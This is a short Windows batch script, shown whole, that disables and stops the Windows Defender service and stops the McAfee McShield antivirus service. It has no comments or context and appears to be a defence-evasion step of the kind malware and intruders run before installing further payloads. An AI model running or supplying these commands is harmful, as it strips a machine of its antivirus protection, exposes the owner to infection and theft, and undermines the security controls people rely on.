@echo off
sc config WinDefend start= disabled
sc stop WinDefend
net stop McShield
